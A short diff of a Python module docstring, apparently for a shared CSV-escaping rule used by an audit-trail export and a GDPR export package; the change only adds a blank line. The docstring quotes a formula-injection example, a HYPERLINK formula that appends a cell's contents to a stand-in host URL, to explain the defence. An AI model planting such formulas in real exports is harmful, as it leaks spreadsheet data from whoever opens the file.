@@ -4,6 +4,7 @@ Both CSV writers of the system use this one rule: the audit trail export (servic
 data-subject export package (services/gdpr/package.py), whose cells hold values that people and
 tenant staff typed, e.g. a CRM contact named ``=HYPERLINK("https://evil.example/?"&A1)``.
 """
+
 from __future__ import annotations
 
 import re
